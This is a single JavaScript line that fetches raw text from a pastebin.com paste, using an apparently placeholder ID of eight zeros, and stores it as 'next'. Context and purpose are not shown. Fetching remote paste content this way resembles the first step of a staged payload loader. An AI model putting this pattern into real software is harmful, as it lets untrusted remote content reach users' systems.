const next = await (await fetch("https://pastebin.com/raw/" + "0".repeat(8))).text();
